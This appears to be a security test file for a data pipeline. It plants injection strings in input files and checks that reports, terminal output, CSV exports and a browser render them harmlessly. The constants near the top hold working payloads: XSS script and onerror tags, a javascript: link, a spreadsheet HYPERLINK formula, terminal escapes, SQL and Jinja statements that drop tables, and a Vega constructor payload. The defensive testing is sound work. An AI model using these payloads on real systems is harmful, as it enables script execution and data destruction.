"""Files by an attacker, landed and published by one whole run: what they want does not happen.

HTML, scripts, formulas, terminal commands, SQL and Jinja stand wherever a file can put a text:
in activities, attributes, segments, feedback, column names, file names and broken lines.
"""

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import dagster as dg
import duckdb
import pytest
from playwright.sync_api import Browser

from orchestration.landing import reconcile
from orchestration.settings import PROJECT_DIR
from tests.maps import write_tables
from tests.small_runs import MAP, Finished, Home

pytestmark = pytest.mark.slow

SCRIPT = "</script><script>window.pwned=1</script>"
IMAGE = "<img src=x onerror=window.pwned=1>"
LINK = "[click](javascript:window.pwned=1)"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'
TERMINAL = "\x1b]0;pwned\x07\x1b[2J[bold red]\u202e"
SQL = "'; drop table raw.loads; --"
JINJA = "{{ env_var('HOME') }}{% do run_query('drop schema raw cascade') %}"
VEGA = "datum.constructor.constructor('window.pwned=1')()"
ATTACKS = (SCRIPT, IMAGE, LINK, FORMULA, TERMINAL, SQL, JINJA, VEGA)

# Segments, of three hundred claims: enough of each to be ranked and shown.
SEGMENTS = (IMAGE, FORMULA, TERMINAL + SCRIPT)
HEADER = ["source_case_id", "activity", "occurred_at", "region", f'x"{SQL}', IMAGE]


@dataclass
class Run:
    home: Home
    finished: Finished

    def command(self, *arguments: str) -> str:
        done = subprocess.run(
            [sys.executable, "-m", "orchestration", *arguments, "--home", str(self.home.home)],
            cwd=PROJECT_DIR,
            capture_output=True,
            text=True,
            check=True,
        )
        return done.stdout

    @property
    def report(self) -> Path:
        return self.home.publication() / "report.html"


def write_attack(folder: Path) -> None:
    folder.mkdir()
    rows = []
    for case in range(300):
        opened = datetime(2026, 1, 5) + timedelta(hours=8 * case)
        path = ["open", "check", "pay" if case % 3 else "refuse"][: 1 if case % 2 else 3]
        path.append(ATTACKS[case % len(ATTACKS)])
        rows += [
            [
                f"{SQL}{SCRIPT}{case}",
                activity,
                f"{opened + timedelta(days=2 * step):%Y-%m-%dT%H:%M:%SZ}",
                SEGMENTS[case % len(SEGMENTS)],
                JINJA,
                VEGA,
            ]
            for step, activity in enumerate(path)
        ]
    rows.append(["broken", "open", IMAGE, "", "", ""])
    with (folder / "event_log.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(HEADER)
        writer.writerows(rows)
    (folder / "survey_responses.jsonl").write_text(
        "\n".join(
            json.dumps(
                {
                    "response_id": f"r{number}",
                    "customer_id": f"c{number}",
                    "survey": "nps",
                    "score": 1,
                    "verbatim": f"the page {attack} is slow",
                    "asked_at": "2026-02-01T08:00:00Z",
                    "answered_at": "2026-02-02T08:00:00Z",
                }
            )
            for number, attack in enumerate(ATTACKS * 5)
        )
    )
    rejected = folder / "events"
    rejected.mkdir()
    (rejected / "<img src=x onerror=window.pwned=1>.csv").write_text(f'"{IMAGE}|{LINK}",b\n1,2\n')
    (folder / "\x1b[31m<b>unlisted.txt").write_text("")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Run:
    folder = tmp_path_factory.mktemp("attack")
    links = (PROJECT_DIR / "examples" / "loan_application" / "entity_links.csv").read_text()
    tables = {
        **MAP,
        "entity_links": links.replace("loan_application", "claims"),
        "segment_dimensions": """
            journey_id,dimension,source,source_column,as_of_rule,is_immutable,is_ranked
            claims,region,event_log,region,entering_event,false,true
        """,
    }
    write_attack(folder / "landing")
    home = Home(folder / "home", write_tables(folder / "map", tables), folder / "landing")
    return Run(home, home.run())


def test_everything_lands_and_no_table_is_lost(attacked: Run) -> None:
    assert attacked.finished.exit_code == 3, attacked.finished.errors
    with duckdb.connect(attacked.home.settings.warehouse, read_only=True) as connection:
        counts = {each.table: each for each in reconcile(connection)}
        assert [each for each in counts.values() if each.difference] == []
        assert counts["event_log"].rows_kept == 900
        assert counts["event_log"].rows_quarantined == 1
        activities = connection.execute("select distinct activity from raw.event_log").fetchall()
    assert {activity for (activity,) in activities} >= set(ATTACKS)
    with duckdb.connect(attacked.home.publication() / "journey_gaps.duckdb") as connection:
        segments = connection.execute(
            "select distinct segment_value from gap_ranking where segment_dimension = 'region'"
        ).fetchall()
    assert {segment for (segment,) in segments} >= set(SEGMENTS)


def test_a_terminal_is_told_nothing(attacked: Run) -> None:
    shown = attacked.finished.output + attacked.finished.errors
    shown += attacked.command("gaps")
    assert not {"\x1b", "\x07", "\u202e"} & set(shown)
    assert "\\x1b[31m<b>unlisted.txt" in shown
    assert "[bold red]" in shown


def test_a_spreadsheet_runs_nothing(attacked: Run) -> None:
    rows = list(csv.DictReader(io.StringIO(attacked.command("gaps", "--format", "csv"))))
    assert FORMULA.join(["'", ""]) in {row["segment_value"] for row in rows}
    for row in rows:
        for text in row.values():
            is_number = text.replace(".", "").replace("e", "").replace("-", "").isdigit()
            assert is_number or not text.startswith(("=", "+", "-", "@", "\t", "\r"))


class Tags(HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_the_report_has_no_element_from_data(attacked: Run) -> None:
    html = attacked.report.read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=window.pwned=1&gt;" in html
    page = Tags()
    page.feed(html)
    assert [tag for tag, _ in page.tags].count("script") == 4
    assert not {"img", "iframe", "object", "embed", "base", "form"} & {tag for tag, _ in page.tags}
    for _, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on")]
        assert (attributes.get("href") or "#").startswith("#")


def test_dagster_is_shown_no_markup(attacked: Run) -> None:
    with attacked.home.instance() as instance:
        [run] = instance.get_runs()
        markdown = [
            entry.md_str
            for record in instance.all_logs(run.run_id)
            if record.dagster_event is not None
            for entry in _metadata(record.dagster_event)
            if isinstance(entry, dg.MarkdownMetadataValue) and entry.md_str
        ]
    told = "\n".join(markdown)
    assert "window" in told
    assert "<" not in told.replace("\\<", "")
    # But the pictures that the report's preview draws itself.
    ours = re.sub(r"\]\(data:image/(png|svg\+xml);base64,[\w+/=]+\)", "", told)
    assert not re.search(r"(?<!\\)\]\(", ours)


def _metadata(event: dg.DagsterEvent) -> list[object]:
    if event.is_step_materialization:
        return list(event.step_materialization_data.materialization.metadata.values())
    if event.event_type is dg.DagsterEventType.ASSET_CHECK_EVALUATION:
        return list(event.asset_check_evaluation_data.metadata.values())
    return []


@dataclass
class Opened:
    pwned: object
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def opened(browser: Browser, attacked: Run) -> Iterator[Opened]:
    """The report opened, its charts drawn and each of their marks pointed at."""
    context = browser.new_context()
    page = context.new_page()
    found = Opened(None)
    page.on("request", lambda request: found.requests.append(request.url))
    page.on("dialog", lambda dialog: (found.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: found.complaints.append(message.text))
    page.on("pageerror", lambda error: found.complaints.append(str(error)))
    page.goto(attacked.report.as_uri())
    page.wait_for_selector("html[data-charts=drawn]", state="attached")
    for mark in page.locator(".chart svg .mark-rect path").all()[:5]:
        mark.hover(force=True)
    found.pwned = page.evaluate("window.pwned")
    yield found
    context.close()


def test_a_browser_runs_nothing_and_asks_for_nothing(opened: Opened, attacked: Run) -> None:
    assert opened.pwned is None
    assert opened.dialogs == []
    assert opened.complaints == []
    assert opened.requests == [attacked.report.resolve().as_uri()]
